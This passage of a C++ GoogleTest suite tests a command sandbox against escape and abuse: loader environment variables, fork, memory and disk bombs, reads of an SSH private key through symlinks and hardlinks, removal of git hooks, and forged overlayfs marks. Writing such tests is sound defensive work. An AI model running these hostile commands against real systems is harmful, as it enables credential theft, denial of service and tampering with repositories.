  auto refused = spawn(build(defaults()), cmd);
  ASSERT_FALSE(refused.has_value());
  EXPECT_NE(refused.error().message.find("LD_PRELOAD"), std::string::npos);
  EXPECT_FALSE(defaults().passthrough_env("LD_PRELOAD").Build().has_value());
  EXPECT_FALSE(defaults().set_env("LD_LIBRARY_PATH", "/tmp").Build().has_value());
  EXPECT_FALSE(defaults().set_env("BASH_ENV", "/tmp/x").Build().has_value());
}

// ---- resources and lifetime
// ------------------------------------------------------------------------

TEST_P(SecurityBattery, ForkBomb) {
  ResourceLimits limits;
  limits.processes = 64;
  auto r = run(build(defaults().limits(limits)), {kAttack, "fork_bomb"}, 1500ms);
  EXPECT_FALSE(r.success());
  EXPECT_TRUE(r.timed_out);
  EXPECT_EQ(first_line(r.stdout_data),
            "EAGAIN");  // fork failed at the limit instead of filling the pid space
}

TEST_P(SecurityBattery, MemoryBomb) {
  ResourceLimits limits;
  limits.address_space_bytes = 256ull << 20;
  auto r = run(build(defaults().limits(limits)), {kAttack, "memory", "2048"});
  EXPECT_EQ(r.stdout_data.rfind("ENOMEM after", 0), 0u) << r.stdout_data;
  EXPECT_LT(r.peak_rss_kb.value_or(0), 300 * 1024);  // unknown means below this process's RSS
}

TEST_P(SecurityBattery, CpuLoop) {
  ResourceLimits limits;
  limits.cpu_seconds = 1;
  // The CPU limit ends it, not the wall-clock timeout, however loaded the machine is (one CPU
  // second took over 5 s of wall time on a busy 2-core host).
  auto r = run(build(defaults().limits(limits)), {"/bin/sh", "-c", "while :; do :; done"}, 60000ms);
  EXPECT_FALSE(r.success());
  EXPECT_FALSE(r.timed_out);
  EXPECT_TRUE(r.term_signal == SIGXCPU || r.term_signal == SIGKILL) << r.term_signal;
  EXPECT_LT(r.wall_time, 60s);
  auto wall = run(build(defaults()), {"/bin/sh", "-c", "while :; do :; done"}, 300ms);
  EXPECT_TRUE(wall.timed_out);
}

TEST_P(SecurityBattery, BackgroundChildOutlivingTheTimeout) {
  auto r = run(build(defaults()),
               {"/bin/sh", "-c", "(trap '' HUP TERM; sleep 1000) & echo $!; sleep 1000"}, 300ms);
  EXPECT_TRUE(r.timed_out);
  const pid_t bg = std::atoi(r.stdout_data.c_str());
  ASSERT_GT(bg, 0);
  // Already reaped by expect_nothing_left; in a PID namespace of the command's own, `bg` is a pid
  // of that namespace (dead with it) and names nothing here.
  if (!build(defaults()).status().pid_namespace) {
    EXPECT_NE(::kill(bg, 0), 0);
  }
}

TEST_P(SecurityBattery, DaemonThatLeavesTheSession) {
  auto r = run(build(defaults()), {kAttack, "daemon"});
  EXPECT_TRUE(r.success());
  EXPECT_NE(r.stdout_data.find("setsid=EPERM"), std::string::npos) << r.stdout_data;
}

TEST_P(SecurityBattery, StdoutFlood) {
  auto r =
      run(build(defaults().output_caps(64 * 1024, 64 * 1024)), {"/usr/bin/yes", "flood"}, 500ms);
  EXPECT_TRUE(r.timed_out);
  EXPECT_TRUE(r.stdout_truncated);
  EXPECT_LT(r.stdout_data.size(), 64 * 1024 + 200);
  EXPECT_NE(r.stdout_data.find("output truncated"), std::string::npos);
}

TEST_P(SecurityBattery, DiskFill) {
  ResourceLimits limits;
  limits.file_size_bytes = 1 << 20;
  auto r = attack({"fill", (ws_ / "fill.bin").string(), std::to_string(1L << 30)},
                  defaults().limits(limits));
  EXPECT_EQ(first_line(r.stdout_data), "EFBIG after 1048576");
  EXPECT_LE(fs::file_size(seen("fill.bin")), 1u << 20);
  fs::remove(ws_ / "fill.bin");
}

TEST_P(SecurityBattery, FdExhaustion) {
  ResourceLimits limits;
  limits.open_files = 32;
  auto r = attack({"fds"}, defaults().limits(limits));
  EXPECT_EQ(first_line(r.stdout_data), "EMFILE after 29");  // 0-2 are stdio
}

// ---- kernex's home_lockdown test, ported
// -----------------------------------------------------------

TEST_P(SecurityBattery, HomeLockdownPort) {
  const fs::path project = home_ / ".kernex" / "projects" / "proj";
  auto b = PolicyBuilder().workspace(project);
  auto key = run(build(b), {"/bin/cat", (home_ / ".ssh" / "id_rsa").string()});
  EXPECT_TRUE(key.exit_code != 0 || key.stdout_data.find(kKeySentinel) == std::string::npos);
  EXPECT_EQ(key.stdout_data.find(kKeySentinel), std::string::npos);
  // Stricter than kernex: nothing of $HOME outside the workspace is readable.
  auto readable = run(build(b), {"/bin/cat", (home_ / "readable.txt").string()});
  EXPECT_NE(readable.exit_code, 0);
  auto write = run(
      build(b), {"/bin/sh", "-c", "printf x > '" + (project / "agent-wrote.txt").string() + "'"});
  EXPECT_TRUE(write.success()) << write.stderr_data;
  EXPECT_TRUE(fs::exists(project / "agent-wrote.txt"));
}

// ---- overlay mode only (issue "Overlay workspace")
// ---------------------------------------------------------

// The same battery, instantiated in overlay mode only.
class OverlayBattery : public SecurityBattery {};

// The layers hold what the review will land: a command that could write them directly, or read
// what is there beside its own view, would bypass it.
TEST_P(OverlayBattery, LayersAreOutOfReach) {
  auto wrote = shell("echo mine > mine.txt && echo ok");
  EXPECT_EQ(wrote.stdout_data, "ok\n") << wrote.stderr_data;
  ASSERT_TRUE(fs::exists(upper() / "mine.txt"));
  for (const fs::path& target : {upper() / "planted", *layers_ / "work" / "planted",
                                 upper() / "mine.txt", *layers_ / "planted"}) {
    auto r = attack({"write", target.string()});
    EXPECT_TRUE(write_refused(first_line(r.stdout_data))) << target << ": " << r.stdout_data;
  }
  for (const fs::path& target : {upper(), *layers_, *layers_ / "work"}) {
    EXPECT_EQ(first_line(attack({"list", target.string()}).stdout_data), "EACCES") << target;
  }
  EXPECT_EQ(first_line(attack({"read", (upper() / "mine.txt").string()}).stdout_data), "EACCES");
  // Nor through a link made inside the workspace.
  auto via = shell("ln -s '" + upper().string() + "' up && echo x > up/planted; ls up");
  EXPECT_NE(via.exit_code, 0);
  EXPECT_FALSE(fs::exists(upper() / "planted"));
  EXPECT_EQ(slurp(upper() / "mine.txt"), "mine\n");
}

// A symlink written into the upper layer is only a symlink: it reaches nothing the grants don't,
// from this spawn or a later one.
TEST_P(OverlayBattery, UpperSymlinksReachNothing) {
  auto made = shell("ln -s \"$HOME/.ssh\" ssh-dir && ln -s \"$HOME/.ssh/id_rsa\" key && ln -s '" +
                    outside_.string() + "' out && echo made");
  EXPECT_EQ(made.stdout_data, "made\n") << made.stderr_data;
  EXPECT_TRUE(fs::is_symlink(upper() / "ssh-dir"));  // where it landed, not in the real tree
  auto r = shell("cat ssh-dir/id_rsa key; ls ssh-dir; echo x > out/planted; cat out/secret.txt");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_EQ(r.stdout_data.find(kKeySentinel), std::string::npos) << r.stdout_data;
  EXPECT_EQ(r.stdout_data.find("OUTSIDE-SECRET"), std::string::npos) << r.stdout_data;
  EXPECT_EQ(r.stdout_data.find("id_rsa"), std::string::npos) << r.stdout_data;
  EXPECT_EQ(first_line(attack({"read", (ws_ / "key").string()}).stdout_data), "EACCES");
  EXPECT_FALSE(fs::exists(outside_ / "planted"));
}

// Hard links (and linkat of an O_PATH descriptor) never bring a file from outside into the layer,
// nor one from the layer out.
TEST_P(OverlayBattery, HardlinksCrossNothing) {
  for (const auto& [from, to] :
       std::vector<std::pair<fs::path, fs::path>>{{outside_ / "secret.txt", ws_ / "h1"},
                                                  {home_ / ".ssh" / "id_rsa", ws_ / "h2"},
                                                  {ws_ / "inside.txt", outside_ / "h3"},
                                                  {ws_ / "inside.txt", upper() / "h4"}}) {
    auto r = attack({"link", from.string(), to.string()});
    EXPECT_NE(first_line(r.stdout_data), "OK") << from << " -> " << to;
  }
  auto opath = attack({"opath_link", (home_ / ".ssh" / "id_rsa").string(), (ws_ / "h5").string()});
  EXPECT_NE(first_line(opath.stdout_data), "OK") << opath.stdout_data;
  EXPECT_EQ(opath.stdout_data.find(kKeySentinel), std::string::npos);
  for (const char* name : {"h1", "h2", "h4", "h5"}) EXPECT_FALSE(visible(name)) << name;
  EXPECT_FALSE(fs::exists(outside_ / "h3"));
  EXPECT_FALSE(fs::exists(upper() / "h4"));
}

// What is kept read-only in the workspace (.git, its hooks, rc files) can't be renamed or deleted
// out of the way in the overlay either, and stays read-only for a later policy over the same layer.
TEST_P(OverlayBattery, ProtectedPathsCannotBeRenamedAway) {
  for (const auto& [from, to] :
       std::vector<std::pair<std::string, std::string>>{{".git", "git-old"},
                                                        {".git/hooks", "hooks-old"},
                                                        {".git/hooks/pre-commit.sample", "sample"},
                                                        {".git/config", "config-old"},
                                                        {".bashrc", "rc-old"}}) {
    auto r = attack({"rename", (ws_ / from).string(), (ws_ / to).string()});
    EXPECT_NE(first_line(r.stdout_data), "OK") << from;
    EXPECT_TRUE(visible(from)) << from;
    EXPECT_FALSE(visible(to)) << to;
  }
  auto removed = shell("rm -rf .git/hooks; rm -f .bashrc; mkdir -p .git/hooks/x");
  EXPECT_NE(removed.exit_code, 0);
  auto later = attack({"write", (ws_ / ".git" / "hooks" / "pre-commit").string()});
  EXPECT_TRUE(write_refused(first_line(later.stdout_data))) << later.stdout_data;
  EXPECT_TRUE(visible(".git/hooks/pre-commit.sample"));
  EXPECT_FALSE(visible(".git/hooks/pre-commit"));
  EXPECT_EQ(slurp(seen(".bashrc")), "# workspace rc\n");
}

// overlayfs's own marks can't be forged from inside: a whiteout or an opaque directory would hide
// files of the real tree from the review.
TEST_P(OverlayBattery, MarksCannotBeForged) {
  fs::create_directories(ws_ / "docs");
  std::ofstream(ws_ / "docs" / "kept.txt") << "kept";
  EXPECT_NE(first_line(attack({"whiteout", (ws_ / "inside.txt").string()}).stdout_data), "OK");
  EXPECT_NE(first_line(attack({"whiteout", (ws_ / "new-node").string()}).stdout_data), "OK");
  for (const char* name : {"trusted.overlay.opaque", "user.overlay.opaque",
                           "trusted.overlay.redirect", "user.overlay.redirect"}) {
    auto r = attack({"setxattr_named", (ws_ / "docs").string(), name, "y"});
    EXPECT_NE(first_line(r.stdout_data), "OK") << name;
  }
  auto listed = shell("cat docs/kept.txt inside.txt");
  EXPECT_EQ(listed.stdout_data, "keptinside") << listed.stderr_data;
  fs::remove_all(ws_ / "docs");
}

// The command's own mount table: /proc is not granted, so it learns nothing of the layers there.
TEST_P(OverlayBattery, MountTableIsNotReadable) {
  for (const char* path : {"/proc/self/mountinfo", "/proc/self/mounts", "/proc/mounts"}) {
    auto r = attack({"read", path});
    EXPECT_TRUE(first_line(r.stdout_data) == "EACCES" || first_line(r.stdout_data) == "ENOENT")
        << path << ": " << r.stdout_data;
  }
  auto sh = shell("cat /proc/self/mountinfo /proc/mounts; findmnt 2>&1; mount 2>&1");
  EXPECT_EQ(sh.stdout_data.find(layers_->string()), std::string::npos) << sh.stdout_data;
}

std::string workspace_mode(const ::testing::TestParamInfo<bool>& info) {
  return info.param ? "Overlay" : "Plain";
}
INSTANTIATE_TEST_SUITE_P(Workspace, SecurityBattery, ::testing::Values(false, true),
                         workspace_mode);
INSTANTIATE_TEST_SUITE_P(Workspace, OverlayBattery, ::testing::Values(true), workspace_mode);

}  // namespace
